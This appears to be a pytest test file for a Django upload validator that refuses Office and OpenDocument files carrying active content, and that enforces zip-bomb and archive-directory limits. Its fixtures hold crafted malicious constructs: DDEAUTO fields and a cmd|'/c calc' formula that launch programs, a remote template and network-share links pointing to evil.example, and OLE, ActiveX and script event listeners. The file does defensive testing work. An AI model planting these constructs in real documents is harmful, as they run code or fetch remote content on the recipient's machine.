"""Office documents that carry or fetch active content are refused, one crafted file per trap;
the archive limits are read from the zip's end record before its directory."""

import io
import struct
import zipfile
import zlib

import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given
from hypothesis import strategies as st

from outputs import files
from outputs.files import check_material_file
from tests.factories.outputs import DOCX, ODP, ODT, PPTX, XLSX
from tests.test_fuzz import FUZZ

ACTIVE = "This document contains macros or links to other files."
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64


def zip_bytes(parts, *, first=None):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        if first:
            package.writestr(first[0], first[1], compress_type=zipfile.ZIP_STORED)
        for name, content in parts.items():
            package.writestr(name, content)
    return buffer.getvalue()


def ooxml(main_type=DOCX, parts=(), *, content_types=""):
    """An Office Open XML package: its content types, a main part, and `parts`."""
    return zip_bytes(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.'
            'openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
            f'ContentType="application/xml"/><Override PartName="/main.xml" '
            f'ContentType="{main_type}"/>{content_types}</Types>',
            "main.xml": "<x/>",
            **dict(parts),
        }
    )


def odf(mimetype=ODT, parts=()):
    return zip_bytes(
        {"content.xml": "<office:document-content/>", **dict(parts)},
        first=("mimetype", mimetype),
    )


def rels(*relationships):
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships">' + "".join(relationships) + "</Relationships>"
    )


def relationship(kind, target, *, mode=""):
    mode = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="rId9" Type="{RELS}/{kind}" Target="{target}"{mode}/>'


def document(body):
    return (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p>{body}</w:p></w:body></w:document>"
    )


def field(*instructions):
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
        for text in instructions
    )
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def upload(content, name="file.docx"):
    return SimpleUploadedFile(name, content)


def refused(content):
    with pytest.raises(forms.ValidationError) as error:
        check_material_file(upload(content))
    return error.value


# Clean documents are still accepted


CLEAN_DOCX = ooxml(
    DOCX,
    {
        "word/_rels/document.xml.rels": rels(
            relationship("hyperlink", "https://example.org/report", mode="External"),
            relationship("image", "media/image1.png"),
        ),
        "word/document.xml": document(field(" PAGE ") + field(' HYPERLINK "https://x.org" ')),
        "word/media/image1.png": b"\x89PNG\r\n\x1a\n",
        "word/printerSettings/printerSettings1.bin": b"\x01\x02 printer options",
        "customUI/customUI14.xml": '<customUI xmlns="http://schemas.microsoft.com/office/2009/'
        '07/customui"><ribbon startFromScratch="false"/></customUI>',
    },
)


@pytest.mark.parametrize(
    ("content", "extension"),
    [
        (CLEAN_DOCX, "docx"),
        (
            ooxml(
                XLSX,
                {
                    "xl/printerSettings/printerSettings1.bin": b"\x01",
                    "xl/worksheets/sheet1.xml": '<sheetData><row><c><f>TEXTJOIN("|",TRUE,A1:A3)'
                    "</f></c></row></sheetData>",
                },
            ),
            "xlsx",
        ),
        # Slides with a chart: the chart's workbook is an embedded .xlsx, checked in turn.
        (ooxml(PPTX, {"ppt/embeddings/Microsoft_Excel_Worksheet1.xlsx": ooxml(XLSX)}), "pptx"),
        (
            odf(
                ODT,
                {
                    "content.xml": "<office:document-content><office:scripts/><office:body>"
                    '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>'
                    '<draw:image xlink:href="Pictures/a.png"/>'
                    '<text:a xlink:href="https://example.org">a link</text:a>'
                    "<text:p>Macro: the big picture; DDE in plain words</text:p>"
                    "</office:body></office:document-content>",
                    "Object 1/content.xml": "<office:document-content/>",
                    "ObjectReplacements/Object 1": b"\x01\x00 preview",
                    "Pictures/a.png": b"\x89PNG\r\n\x1a\n",
                },
            ),
            "odt",
        ),
        (odf(ODP), "odp"),
    ],
)
def test_clean_documents_are_accepted(content, extension):
    assert check_material_file(upload(content)).extension == extension


# Office Open XML traps


@pytest.mark.parametrize(
    "content",
    [
        # A remote template, fetched when the document opens.
        ooxml(
            DOCX,
            {
                "word/_rels/settings.xml.rels": rels(
                    relationship("attachedTemplate", "https://evil.example/t.dotm", mode="External")
                )
            },
        ),
        # A linked image, fetched from outside.
        ooxml(
            PPTX,
            {
                "ppt/slides/_rels/slide1.xml.rels": rels(
                    relationship("image", "\\\\evil.example\\share\\a.png", mode="External")
                )
            },
        ),
        # The same, its TargetMode spelled with a character reference.
        ooxml(
            DOCX,
            {
                "word/_rels/document.xml.rels": rels(
                    relationship("frame", "https://evil.example/", mode="Ext&#101;rnal")
                )
            },
        ),
        # An OLE object, by relationship, by folder, as a .bin, or disguised as a picture.
        ooxml(DOCX, {"word/_rels/document.xml.rels": rels(relationship("oleObject", "x.xml"))}),
        ooxml(DOCX, {"word/embeddings/oleObject1.bin": OLE}),
        ooxml(DOCX, {"word/embeddings/Package.zip": b"PK\x03\x04 not an office file"}),
        ooxml(DOCX, {"word/media/image1.png": OLE}),
        # ActiveX controls.
        ooxml(PPTX, {"ppt/activeX/activeX1.xml": "<ax:ocx/>"}),
        ooxml(DOCX, {"word/_rels/document.xml.rels": rels(relationship("control", "a.xml"))}),
        # Any embedded binary.
        ooxml(XLSX, {"xl/thing.bin": b"\0"}),
        # Excel 4.0 macro sheets, by folder or by content type.
        ooxml(XLSX, {"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}),
        ooxml(
            XLSX,
            content_types='<Override PartName="/xl/sheets/m.xml" '
            'ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
        ),
        # A ribbon whose buttons call code.
        ooxml(
            DOCX,
            {
                "customUI/customUI14.xml": '<customUI onLoad="Ribbon_Load"><ribbon><tabs><tab>'
                '<button id="b" onAction="Run"/></tab></tabs></ribbon></customUI>'
            },
        ),
        # DDE fields: whole, split across runs, as a simple field, escaped.
        ooxml(DOCX, {"word/document.xml": document(field('DDEAUTO c:\\\\windows "calc"'))}),
        ooxml(DOCX, {"word/document.xml": document(field(" DD", "EAUTO c:\\\\x ", '"y"'))}),
        ooxml(DOCX, {"word/footer1.xml": document('<w:fldSimple w:instr=" DDE x y"/>')}),
        ooxml(DOCX, {"word/document.xml": document(field("&#68;DE cmd x"))}),
        # The same field in a part with another name, or in UTF-16.
        ooxml(DOCX, {"word/story.dat": document(field("DDEAUTO cmd x"))}),
        ooxml(
            DOCX,
            {"word/document.xml": document(field("DDEAUTO cmd x")).encode("utf-16")},
        ),
        # A "hyperlink" to a file or a network share.
        ooxml(
            DOCX,
            {
                "word/_rels/document.xml.rels": rels(
                    relationship("hyperlink", "file:///C:/Windows/calc.exe", mode="External")
                )
            },
        ),
        ooxml(
            DOCX,
            {
                "word/_rels/document.xml.rels": rels(
                    relationship("hyperlink", "\\\\evil.example\\share", mode="External")
                )
            },
        ),
        # A cell formula that calls another program.
        ooxml(
            XLSX,
            {
                "xl/worksheets/sheet1.xml": "<sheetData><row><c><f>cmd|'/c calc'!A0</f>"
                "</c></row></sheetData>"
            },
        ),
        # Excel's DDE and OLE links.
        ooxml(
            XLSX,
            {
                "xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink "
                'ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
            },
        ),
        ooxml(
            XLSX, {"xl/externalLinks/externalLink1.xml": "<externalLink><oleLink/></externalLink>"}
        ),
        # An embedded workbook with a macro sheet of its own, or a nested embedding.
        ooxml(PPTX, {"ppt/embeddings/Sheet1.xlsx": ooxml(XLSX, {"xl/macrosheets/a.xml": "<a/>"})}),
        ooxml(
            PPTX,
            {"ppt/embeddings/Doc1.docx": ooxml(DOCX, {"word/embeddings/Sheet1.xlsx": ooxml(XLSX)})},
        ),
    ],
)
def test_office_open_xml_with_active_content_is_refused_saying_what_to_do(content):
    error = refused(content)

    assert error.code == "active_content"
    assert error.messages == [
        "This document contains macros or links to other files. Save it as a plain PDF or a "
        "document without macros and upload it again."
    ]


def test_a_part_declaring_a_dtd_cannot_be_checked_and_is_refused():
    content = ooxml(
        DOCX,
        {"word/document.xml": '<!DOCTYPE d [<!ENTITY e "DDEAUTO">]><w:document>&e;</w:document>'},
    )

    error = refused(content)

    assert error.code == "broken"
    assert "We cannot check this document" in error.messages[0]


# OpenDocument traps


@pytest.mark.parametrize(
    "content_xml",
    [
        "<office:event-listeners><script:event-listener script:language="
        '"ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>'
        "</office:event-listeners>",
        '<presentation:event-listener script:event-name="dom:click" presentation:action='
        '"execute" xlink:href="cmd.exe"/>',
        '<text:p><text:script script:language="javascript">alert(1)</text:script></text:p>',
        '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>',
        '<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>',
        '<draw:frame><draw:object xlink:href="https://evil.example/x.odt"/></draw:frame>',
        '<draw:frame><draw:object xlink:href="../Object 1"/></draw:frame>',
        '<draw:frame><draw:image xlink:href="\\\\evil.example\\share\\a.png"/></draw:frame>',
        '<text:section><text:section-source xlink:href="file:///etc/x.odt"/></text:section>',
        '<draw:applet draw:code="Evil.class"/>',
        '<text:a xlink:href="vnd.sun.star.script:Standard.Module1.Run?language=Basic&amp;'
        'location=application">Run</text:a>',
        '<text:dde-connection-decls><text:dde-connection-decl office:dde-application="cmd"/>'
        "</text:dde-connection-decls>",
    ],
)
def test_opendocument_with_active_content_is_refused(content_xml):
    content = odf(
        ODT, {"content.xml": f"<office:document-content>{content_xml}</office:document-content>"}
    )

    error = refused(content)

    assert error.code == "active_content"
    assert error.messages[0].startswith(ACTIVE)


@pytest.mark.parametrize(
    "parts",
    [
        {"Object 1": OLE},  # an OLE object as LibreOffice keeps one
        {"Pictures/a.png": OLE},
        {
            "styles.xml": '<office:styles><style:background-image xlink:href="http://x.org/a"/>'
            "</office:styles>"
        },
    ],
)
def test_opendocument_objects_outside_its_own_xml_are_refused(parts):
    assert refused(odf(ODP, parts)).code == "active_content"


# Archive limits


class ReadCountingFile(io.BytesIO):
    """A file that counts the bytes read from it (and is otherwise an ordinary file)."""

    read_in_all = 0

    def read(self, size=-1):
        data = super().read(size)
        self.read_in_all += len(data)
        return data


def counting_upload(content):
    upload = SimpleUploadedFile("big.docx", b"")
    upload.file = ReadCountingFile(content)
    upload.size = len(content)
    return upload


def test_a_zip_with_a_huge_directory_is_refused_from_its_end_record_without_reading_it():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        for number in range(files.MAX_ZIP_ENTRIES + 1):
            package.writestr(f"entry-{number:06d}-padding-padding-padding.xml", b"")
    content = buffer.getvalue()
    directory_size = struct.unpack("<L", content[-22 + 12 : -22 + 16])[0]
    upload = counting_upload(content)

    with pytest.raises(forms.ValidationError) as error:
        check_material_file(upload)

    assert error.value.code == "broken"
    assert "We cannot open this file" in error.value.messages[0]
    assert directory_size > 800_000
    assert upload.file.read_in_all < 100_000  # the end of the file, not its whole directory


def with_end_record(content, *, entries=None, directory_size=None):
    at = content.rindex(b"PK\x05\x06")
    record = bytearray(content[at:])
    if entries is not None:
        struct.pack_into("<HH", record, 8, entries, entries)
    if directory_size is not None:
        struct.pack_into("<L", record, 12, directory_size)
    return content[:at] + bytes(record)


def with_zip64_record(content, *, entries, directory_size):
    at = content.rindex(b"PK\x05\x06")
    offset = struct.unpack("<L", content[at + 16 : at + 20])[0]
    zip64 = struct.pack(
        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, directory_size, offset
    )
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, at, 1)
    end = with_end_record(content[at:], entries=0xFFFF, directory_size=0xFFFFFFFF)
    return content[:at] + zip64 + locator + end


@pytest.mark.parametrize(
    "content",
    [
        with_end_record(ooxml(DOCX), entries=60_000),
        with_end_record(ooxml(DOCX), directory_size=50 * 1024 * 1024),
        with_zip64_record(ooxml(DOCX), entries=10**9, directory_size=1000),
        with_zip64_record(ooxml(DOCX), entries=3, directory_size=2**40),
    ],
)
def test_an_end_record_claiming_too_many_entries_or_too_big_a_directory_is_refused(content):
    error = refused(content)

    assert error.code == "broken"
    assert "We cannot open this file" in error.messages[0]


def test_a_zip_bomb_is_refused_by_its_ratio_before_its_parts_are_read():
    content = ooxml(DOCX, {"word/document.xml": b"<w:document/>" + b" " * (11 * 1024 * 1024)})

    error = refused(content)

    assert len(content) < 100_000
    assert error.code == "too_large"
    assert "Save it as a PDF" in error.messages[0]


def test_a_document_unpacking_past_the_limit_is_refused(monkeypatch):
    monkeypatch.setattr(files, "MAX_UNPACKED_BYTES", 1000)

    error = refused(ooxml(DOCX, {"word/document.xml": document("x" * 2000)}))

    assert error.code == "too_large"


def test_a_zip_with_a_comment_after_its_end_record_still_opens():
    buffer = io.BytesIO(ooxml(DOCX))
    with zipfile.ZipFile(buffer, "a") as package:
        package.comment = b"Saved by an office program that leaves a comment"

    assert check_material_file(upload(buffer.getvalue())).extension == "docx"


# Damaged files: a refusal, never a crash


def refusal(content):
    """The ValidationError refusing `content`, or None when it is accepted (anything else
    raised fails the test)."""
    try:
        check_material_file(upload(content))
    except forms.ValidationError as error:
        return error
    return None


@FUZZ
@given(
    base=st.sampled_from(
        [
            CLEAN_DOCX,
            ooxml(PPTX),
            odf(ODT),
            with_zip64_record(ooxml(DOCX), entries=3, directory_size=50),
        ]
    ),
    changes=st.lists(
        st.tuples(st.integers(min_value=0), st.binary(min_size=1, max_size=8)), max_size=4
    ),
)
def test_a_damaged_document_is_accepted_or_refused_never_a_crash(base, changes):
    content = bytearray(base)
    for position, replacement in changes:
        at = position % len(content)
        content[at : at + len(replacement)] = replacement

    error = refusal(bytes(content))

    assert error is None or error.messages[0]


@FUZZ
@given(body=st.binary(max_size=400), compressed=st.booleans())
def test_a_damaged_pdf_is_accepted_or_refused_never_a_crash(body, compressed):
    stream = zlib.compress(body) if compressed else body
    content = (
        b"%PDF-1.7\n1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n"
        + stream
        + b"\nendstream endobj\n"
        + body
    )

    error = refusal(content)

    assert error is None or error.code in ("active_content", "unreadable_pdf")
